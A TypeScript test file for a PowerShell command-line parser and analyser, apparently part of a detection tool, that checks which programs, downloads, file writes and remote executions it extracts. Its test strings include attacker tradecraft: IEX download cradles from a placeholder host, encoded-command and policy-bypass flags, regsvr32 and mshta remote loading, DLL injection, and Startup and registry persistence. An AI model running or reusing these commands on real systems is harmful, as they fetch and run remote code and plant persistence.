import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { millis } from "../../../test/support/cost.ts";
import { parsePowerShellLine } from "./command-line.ts";
import { readPowerShell } from "./powershell.ts";

const encode = (code: string) => Buffer.from(code, "utf16le").toString("base64");
const shown = (code: string) => {
  const { commands, findings } = readPowerShell(code);
  return [...commands.map((one) => one.text), ...findings.map((one) => `${one.role} ${one.value}`)];
};

describe("parsePowerShellLine", () => {
  it.each<[string, object]>([
    ["-nop -w hidden -c calc", { code: "calc" }],
    ['-Command "& {calc; notepad}" x', { code: "& {calc; notepad} x" }],
    ["/NoP \u2013ExecutionPol Bypass -File C:\\x.ps1 -a 1", { file: "C:\\x.ps1", fileArgs: ["-a", "1"] }],
    [`-e ${encode("calc é")}`, { code: "calc é", encoded: true }],
    [`-nop -ep bypass -EncodedC ${encode("iex 'x'")}`, { code: "iex 'x'", encoded: true }],
    ["-ec notbase64!", { encoded: true }],
    ["Get-Date; calc", { code: "Get-Date; calc" }],
    ["-noexit -sta C:\\x.ps1 y", { code: "C:\\x.ps1 y" }],
    ["powershell.exe -v 2 -c dir", { code: "dir" }],
    ["& {calc\nnotepad x}", { code: "& {calc \nnotepad x}" }],
    ['-cwa "& $args[0]" C:\\x.exe "it\'s"', { code: "& {& $args[0]} 'C:\\x.exe' 'it''s'" }],
    ["-CommandWithArgs calc", { code: "calc" }],
    ["-", { fromInput: true }],
    ["-c -", { fromInput: true }],
    ["", {}],
  ])("%s", (line, expected) => {
    expect(parsePowerShellLine(line)).toMatchObject(expected);
  });

  it("names options in full, with their values", () => {
    expect(parsePowerShellLine(["-noni", "-w", "1", "-ex", "bypass", "-c", "x"]).options).toEqual([
      { name: "noninteractive" },
      { name: "windowstyle", value: "1" },
      { name: "executionpolicy", value: "bypass" },
      { name: "command" },
    ]);
  });
});

describe("readPowerShell: files that are looked for", () => {
  it.each<[string, string[]]>([
    ["gci C:\\d\\*.exe | % { & $_.FullName }", ["C:\\d\\*.exe"]],
    ["ls C:\\d -filter *.ps1 | ForEach-Object FullName | % { . $_ }", ["runs C:\\d\\*.ps1"]],
    ["foreach ($f in dir C:\\d\\*.cmd) { & $f }", ["C:\\d\\*.cmd"]],
    ["& (gci C:\\d\\a.*.exe)[0].FullName", ["C:\\d\\a.*.exe"]],
    ["gci C:\\d\\*.dll | % { regsvr32 /s $_.FullName }", ["regsvr32 /s C:\\d\\*.dll"]],
    ["iex (gci C:\\d\\*.ps1 | gc -raw)", ["runs C:\\d\\*.ps1"]],
    ["gci C:\\d\\*.log | rm; dir C:\\d\\*.exe | Unblock-File", []],
    ["gci C:\\d | % { $_.FullName }", []],
  ])("%s", (code, expected) => {
    expect(shown(code)).toEqual(expected);
  });
});

describe("readPowerShell: programs", () => {
  it("takes names like verb-noun for cmdlets where the verb is one of PowerShell's", () => {
    expect(shown("docker-compose up -d; my-tool x")).toEqual(["docker-compose up -d", "my-tool x"]);
    expect(shown("Get-Thing x; Sort-Object; Invoke-Own 1; foreach-object")).toEqual([]);
    expect(readPowerShell("Register-CimProvider -Path a.dll").cmdlets).toMatchObject([
      { tokens: ["Register-CimProvider", "-Path", "a.dll"] },
    ]);
  });
  it.each<[string, string[]]>([
    ["rundll32 C:\\x.dll,Start", ["rundll32 C:\\x.dll Start"]],
    ["rundll32 'C:\\x.dll,Start'", ["rundll32 C:\\x.dll,Start"]],
    ["Get-Date; regsvr32.exe /s /i:http://h/x scrobj.dll | Out-Null", ["regsvr32.exe /s /i:http://h/x scrobj.dll"]],
    ["& 'C:\\a b\\x.exe' -y \"z w\"", ['"C:\\a b\\x.exe" -y "z w"']],
    [". C:\\x.ps1 -a", ["runs C:\\x.ps1"]],
    ["Start-Process -FilePath calc.exe -ArgumentList '/x','y'", ["calc.exe /x y"]],
    ["saps mshta http://h/x.hta -WindowStyle Hidden", ["mshta http://h/x.hta"]],
    ["start cmd '/c calc' -Wait", ["cmd /c calc"]],
    ["if ($true) { calc } else { notepad.exe }", ["calc", "notepad.exe"]],
    ["foreach ($f in 'a.dll','b.dll') { regsvr32 /s $f }", ["regsvr32 /s a.dll", "regsvr32 /s b.dll"]],
    ['1,2 | % { ping "h$_" }', ["ping h1", "ping h2"]],
    ["$p='C:\\x'; & \"$p\\y.exe\" z", ["C:\\x\\y.exe z"]],
    ["Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc /x'", ["calc /x"]],
    ["([wmiclass]'Win32_Process').Create('calc')", ["calc"]],
    ["Invoke-CimMethod Win32_Process Create @{CommandLine='calc 1'}", ["calc 1"]],
    ["[Diagnostics.Process]::Start('calc','/x')", ["calc /x"]],
    [
      "$i=New-Object Diagnostics.ProcessStartInfo; $i.FileName='calc'; $i.Arguments='/y'; [System.Diagnostics.Process]::Start($i)",
      ["calc /y"],
    ],
    ["(New-Object -ComObject WScript.Shell).Run('calc /x',0)", ["calc /x"]],
    ["$s=New-Object -com Shell.Application; $s.ShellExecute('calc.exe','/x')", ["calc.exe /x"]],
    [
      "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application')).Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c x','7')",
      ["cmd /c x"],
    ],
    [
      "$s=New-Object -ComObject WScript.Shell; $l=$s.CreateShortcut('C:\\Start Menu\\Programs\\Startup\\a.lnk'); $l.TargetPath='C:\\x.exe'; $l.Arguments='/y'; $l.Save()",
      ["C:\\x.exe /y", "writes C:\\Start Menu\\Programs\\Startup\\a.lnk"],
    ],
    ["ii C:\\x.lnk", ["C:\\x.lnk"]],
    ["mavinject (gps notepad).Id /INJECTRUNNING C:\\k.dll", ['mavinject "(gps notepad).Id" /INJECTRUNNING C:\\k.dll']],
    ["$n = (gps foo)[0].Id; x.exe $n a", ["x.exe $n a"]],
    ["icim Win32_Product Install @{PackageLocation='D:\\p q\\k.msi'}", ['msiexec.exe /i "D:\\p q\\k.msi"']],
    [
      "(New-Object -ComObject WindowsInstaller.Installer).InstallProduct('http://h/k.msi')",
      ["msiexec.exe /i http://h/k.msi"],
    ],
    [
      "$c = New-Object Management.ManagementClass('Win32_Process'); $c.Derive('Win32_Own'); iwmi Win32_Own Create 'calc'",
      ["calc"],
    ],
    ['foreach ($m in gc C:\\l.txt) { x.exe "\\\\$m\\c" $m }', ["x.exe \\\\$m\\c $m", "reads C:\\l.txt"]],
    ["cmd /c ('c]al]c' -replace ']')", ["cmd /c calc"]],
    ["iwmi Win32_Share Create 'C:\\x'", []],
    [
      "si HKCU:\\Software\\K\\command 'x \"a b\"'",
      ['Set-ItemProperty add hkcu\\software\\k\\command /ve /d "x \\"a b\\""', "writes HKCU:\\Software\\K\\command"],
    ],
    ["cmd --% /c echo %PATH% | x", ["cmd /c echo %PATH%", "x"]],
    ["calc > C:\\o.txt 2>&1", ["calc", "writes C:\\o.txt"]],
    ["function Go { calc } Go", ["calc"]],
    ["Start-Job { calc }", ["calc"]],
    ["Register-ScheduledTask q -Action (New-ScheduledTaskAction 'calc.exe' '/x y')", ["calc.exe /x y"]],
    ["(Get-WmiObject -List Win32_Process).Create('calc.exe /x')", ["calc.exe /x"]],
    ["(gwmi Win32_Process -List).Create('calc.exe /x')", ["calc.exe /x"]],
    ["(gwmi Win32_Process -List -ComputerName k).Create('calc.exe /x')", ["calc.exe /x"]],
    ["(gwmi Win32_Process).Create('calc.exe')", []],
    ["Write-Host 'hello'; Get-ChildItem C:\\ | Where-Object { $_.Name -eq 'x' } | Sort-Object", []],
    ["$a = @{x=1; y='z'}; return $a.y", []],
  ])("%s", (code, expected) => {
    expect(shown(code)).toEqual(expected);
  });
});

describe("readPowerShell: what runs, comes and goes", () => {
  it.each<[string, string[]]>([
    ["IEX (New-Object Net.WebClient).DownloadString('http://h/x.ps1')", ["runs http://h/x.ps1"]],
    ["iwr -useb http://h/x | iex", ["runs http://h/x"]],
    ["irm h.example/x.ps1 | iex", ["runs h.example/x.ps1"]],
    ["iwr h.example:8080 -OutFile C:\\a", ["fetches h.example:8080", "writes C:\\a"]],
    ["& $c[12] 'http://h/x' -OutFile C:\\a", ["fetches http://h/x", "writes C:\\a"]],
    ["& $c[12] 'http://h/x' C:\\a", []],
    ["$c=(irm 'http://h/x'); & ([scriptblock]::Create($c))", ["runs http://h/x"]],
    [
      "(New-Object System.Net.WebClient).DownloadFile('http://h/x.exe',\"$env:TEMP\\x.exe\")",
      ["fetches http://h/x.exe", "writes %temp%\\x.exe"],
    ],
    [
      "wget http://h/x.dll -OutFile C:\\x.dll; rundll32 C:\\x.dll,Go",
      ["rundll32 C:\\x.dll Go", "fetches http://h/x.dll", "writes C:\\x.dll"],
    ],
    [
      "(New-Object Net.WebClient).('Down'+'loadFile').Invoke('http://h/a','C:\\a')",
      ["fetches http://h/a", "writes C:\\a"],
    ],
    [". (gcm i*x) (irm http://h/a)", ["runs http://h/a"]],
    ["& (gcm kiw*) http://h/a", ["C:\\Windows\\System32\\kiw*.exe http://h/a"]],
    ["& (gcm kiwi.exe) /q", ["kiwi.exe /q"]],
    ["rp HKLM:\\SOFTWARE\\K -Name v; ri C:\\a.txt", ["Remove-ItemProperty delete hklm\\software\\k /v v"]],
    ["Start-BitsTransfer http://h/a C:\\a", ["fetches http://h/a", "writes C:\\a"]],
    ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["fetches \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
    ["Get-Content C:\\x.txt | iex", ["runs C:\\x.txt"]],
    ["Add-Type -Path C:\\x.dll", ["runs C:\\x.dll"]],
    ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", ["runs C:\\x.dll"]],
    ["[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://h/a.bin'))", ["runs http://h/a.bin"]],
    ["Import-Module .\\x.psm1", ["runs .\\x.psm1"]],
    ["Import-Module ActiveDirectory", []],
    ['$c = irm http://h/x; iex "$c"', ["runs http://h/x"]],
    ["ii C:\\notes.txt", ["runs C:\\notes.txt"]],
    ["$x = New-Object Xml.XmlDocument; $x.Load('http://h/x'); $x.a.b | iex", ["runs http://h/x"]],
    ["iex (gp 'HKCU:\\Software\\K').Own", ["runs HKCU:\\Software\\K\\Own"]],
    [
      "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String((gpv HKCU:\\Software\\K Own))))",
      ["runs HKCU:\\Software\\K\\Own"],
    ],
    ["gc C:\\a.txt -Stream s | iex", ["runs C:\\a.txt:s"]],
    ["sc C:\\a.txt -Stream s -Value 1", ["writes C:\\a.txt:s"]],
    ["Add-AppxPackage C:\\x.msix", ["runs C:\\x.msix"]],
    ["'x' | Out-File C:\\o.txt", ["writes C:\\o.txt"]],
    [
      "$x=New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','http://h/x',$false); $x.send(); iex $x.responseText",
      ["runs http://h/x"],
    ],
  ])("%s", (code, expected) => {
    expect(shown(code)).toEqual(expected);
  });
});

describe("any text", () => {
  const piece = fc.constantFrom(
    ..."$x = ( ) { } [ ] ' \" ` @ @( @{ $( & . | ; , + - * -f -join -replace -split .. iex [char] [char[]] [array]::Reverse .Replace( 'a' 65 1..9 % foreach if function $_ @' \n #  <# #> --% > 2>&1 -c :: ! +=".split(
      " ",
    ),
    " ",
    "\n",
    '"$(',
  );
  const text = fc.oneof(
    fc.string({ unit: "binary" }),
    fc.array(piece, { maxLength: 40 }).map((parts) => parts.join(" ")),
    fc.array(piece, { maxLength: 40 }).map((parts) => parts.join("")),
  );

  it("is answered", () => {
    fc.assert(
      fc.property(text, (raw) => {
        readPowerShell(raw);
        parsePowerShellLine(raw);
      }),
      { numRuns: 5000 },
    );
  });

  it.each([
    "(",
    "{",
    "[",
    "$(",
    '"$(',
    "@(",
    "a ",
    "a;",
    "$x+=$x;",
    "$x='a'*90000;",
    "'a'+",
    "1,",
    "!",
    "-",
    "[a]",
    ".a(",
    "a(",
    "'",
    '"',
    "`",
    "@'\n",
    "<#",
    "#",
    "if(",
    "foreach($x in 1,2){",
    "iex '",
    "& ",
    "|",
    "| % {",
    "$x=",
    "1..9999|%{",
    "function f{",
    "@{a=",
    "'a'.Replace('a','aa')",
    "[char]65+",
    "> a ",
    "--% a\n",
    "-f",
    "\u2013a ",
  ])("costs little: %s", (unit) => {
    const long = unit.repeat(Math.ceil(100_000 / unit.length));
    const all = () => {
      readPowerShell(long);
      parsePowerShellLine(long);
    };
    expect(millis(all, 6000)).toBeLessThan(6000);
  });
});
